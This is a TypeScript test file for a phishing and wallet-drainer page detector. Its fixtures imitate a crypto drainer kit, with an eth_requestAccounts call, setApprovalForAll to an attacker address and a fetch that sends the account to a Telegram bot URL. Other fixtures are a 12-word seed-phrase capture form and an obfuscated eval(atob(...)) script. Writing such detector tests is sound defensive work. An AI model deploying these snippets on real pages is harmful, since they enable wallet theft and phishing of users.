import t from 'tap';
import { inspectPage } from '../../src/screening/page/inspect-page.ts';

const meta = (url: string) => ({
  url,
  status: 200,
  headers: { 'content-type': 'text/html' },
  bytes: 1000,
  truncated: false,
});

const kit = (host: string, id: string) => `<!doctype html><html><head><title>Claim your ${host} airdrop</title>
<script src="https://${host}/assets/main.${id}.js"></script>
<script>
  const RECEIVER = "0x${id.padEnd(40, 'a')}"; // per-deployment
  const cfg = { api: "https://${host}/api/inferno_config", key: "${id}${id}${id}" }
  async function go () {
    const [acct] = await window.ethereum.request({ method: 'eth_requestAccounts' })
    await token.setApprovalForAll(RECEIVER, true)
    fetch("https://api.telegram.org/bot123:ABC/sendMessage?chat_id=1&text=" + acct)
  }
</script></head>
<body><div class="hero"><h1>Connect wallet to claim your reward on ${host}</h1><button class="btn btn-primary"\
 id="b-${id}">Connect Wallet</button></div></body></html>`;

t.test('drainer kit page: kit family, approvals, exfiltration, lure', async (t) => {
  const r = inspectPage(kit('claim-eth.xyz', 'f00d12'), meta('https://claim-eth.xyz/'));
  t.equal(r.scamDna.kitFamily, 'inferno');
  const kinds = r.findings.map((f) => f.kind);
  for (const k of ['page.drainer_kit', 'page.approval_calls', 'page.exfiltration_endpoint', 'page.wallet_lure'])
    t.ok(kinds.includes(k), k);
  t.equal(r.sandbox.scripts.inline, 1);
  t.equal(r.sandbox.scripts.external, 1);
  t.same(r.sandbox.scripts.externalHosts, ['claim-eth.xyz']);
  t.equal(r.sandbox.title, 'Claim your claim-eth.xyz airdrop');
});

t.test('the same kit on another domain has the same fingerprint; another page does not', async (t) => {
  const a = inspectPage(kit('claim-eth.xyz', 'f00d12'), meta('https://claim-eth.xyz/'));
  const b = inspectPage(kit('rewards-drop.top', 'beef99'), meta('https://rewards-drop.top/'));
  t.equal(a.scamDna.fingerprint, b.scamDna.fingerprint);
  t.equal(a.scamDna.structureHash, b.scamDna.structureHash);
  t.same(a.scamDna.scriptHashes, b.scamDna.scriptHashes);
  const c = inspectPage(
    kit('claim-eth.xyz', 'f00d12').replace('setApprovalForAll(RECEIVER, true)', 'approve(RECEIVER, MAX)'),
    meta('https://claim-eth.xyz/'),
  );
  t.not(c.scamDna.fingerprint, a.scamDna.fingerprint, 'a different script changes the fingerprint');
});

t.test('seed-phrase form is critical', async (t) => {
  const inputs = Array.from({ length: 12 }, (_, i) => `<input type="text" name="word${i + 1}">`).join('');
  const r = inspectPage(
    `<html><body><h2>Enter your 12-word recovery phrase to restore your ` +
      `wallet</h2><form>${inputs}<button>Restore</button></form></body></html>`,
    meta('https://x.example/'),
  );
  const f = r.findings.find((x) => x.kind === 'page.seed_phrase_form');
  t.equal(f?.severity, 'critical');
  t.equal(r.sandbox.forms, 1);
  t.equal(r.sandbox.inputs, 12);
});

t.test('obfuscation and cloned-page markers', async (t) => {
  const r = inspectPage(
    `<!-- saved from url=(0022)https://opensea.io/ --><html><script>var ` +
      `_0x3f2a=['x'];eval(atob('YWxlcnQoMSk='))</script></html>`,
    meta('https://x.example/'),
  );
  const kinds = r.findings.map((f) => f.kind);
  t.ok(kinds.includes('page.obfuscated_script'));
  t.ok(kinds.includes('page.cloned_page'));
});

t.test('a benign page has no findings above info', async (t) => {
  const r = inspectPage(
    `<!doctype html><html><head><title>Docs</title><script src="/static/app.js"></script><script>window.dataLayer = \
window.dataLayer || []</script></head>
<body><nav class="top"><a href="/guide">Guide</a></nav><main><h1>Welcome to the documentation</h1><p>Read the guide\
 to get started.</p>
<form action="/search"><input type="search" name="q"></form></main></body></html>`,
    meta('https://docs.example.org/'),
  );
  t.same(
    r.findings.filter((f) => f.severity !== 'info'),
    [],
  );
  t.equal(r.scamDna.kitFamily, null);
  t.equal(r.sandbox.fetched, true);
});

t.test('hostile pages are inspected in linear time (no regex backtracking on unclosed tags)', async (t) => {
  const size = 128 * 1024;
  const pages: Record<string, string> = {
    'unclosed <script openers': '<script '.repeat(size / 8) + '</script>',
    'unclosed tags': '<a'.repeat(size / 2),
    'unclosed <meta refresh': '<meta http-equiv=refresh '.repeat(size / 25) + '>',
    'unclosed <title': '<title>'.repeat(size / 7) + '>',
    'dashed run in a script': '<script>' + 'a-'.repeat(size / 2) + '</script>',
  };
  for (const [name, html] of Object.entries(pages)) {
    const started = performance.now();
    const r = inspectPage(html, meta('https://x.example/'));
    const ms = performance.now() - started;
    t.ok(ms < 1000, `${name}: ${Math.round(ms)} ms`);
    t.equal(r.sandbox.fetched, true);
  }
  const ok = inspectPage(
    '<html><head><meta http-equiv="refresh" content="0;url=https://y.example"><title> Hi </title></head><script ' +
      'src="//cdn.y.example/a.js"></script><script>go()</script></html>',
    meta('https://x.example/'),
  );
  t.match(ok.sandbox, {
    metaRefresh: '0;url=https://y.example',
    title: 'Hi',
    scripts: { inline: 1, external: 1, externalHosts: ['cdn.y.example'] },
  });
});
